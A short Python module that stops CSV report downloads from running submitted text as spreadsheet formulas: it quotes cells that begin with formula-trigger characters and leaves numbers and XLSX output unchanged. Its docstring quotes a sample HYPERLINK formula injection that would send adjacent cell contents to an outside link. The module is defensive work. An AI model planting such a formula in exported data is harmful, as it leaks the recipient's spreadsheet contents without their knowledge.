"""CSV downloads a spreadsheet opens as text, never as a formula someone else wrote.

Excel, LibreOffice and Google Sheets run a CSV cell that starts with ``=``, ``+``, ``-`` or
``@`` (or a tab or carriage return) as a formula. An anonymous open answer such as
``=HYPERLINK("http://…?x="&A1, "Klik hier")`` would become a live link in the admin's
download, reading the cells around it. As OWASP advises, such text is written with a
``'`` before it, which the spreadsheet takes as "this is text".

Only text is changed: a number (an int, float or Decimal) cannot hold a formula and is
written as it is, so a negative figure stays a number. Text that merely looks like a
negative number (``"-5"`` typed in an open answer) is text and gets the quote. The XLSX
download needs none of this: Wagtail writes formula-like cells as strings.
"""

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value):
    """``value`` as a CSV cell that cannot start a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class FormulaSafeCsvMixin:
    """For a view with Wagtail's ``SpreadsheetExportMixin`` (every report): its CSV cells go
    through ``csv_cell`` after the usual preprocessing, its XLSX cells are left alone."""

    def preprocess_field_value(self, field, value, export_format):
        value = super().preprocess_field_value(field, value, export_format)
        return csv_cell(value) if export_format == self.FORMAT_CSV else value
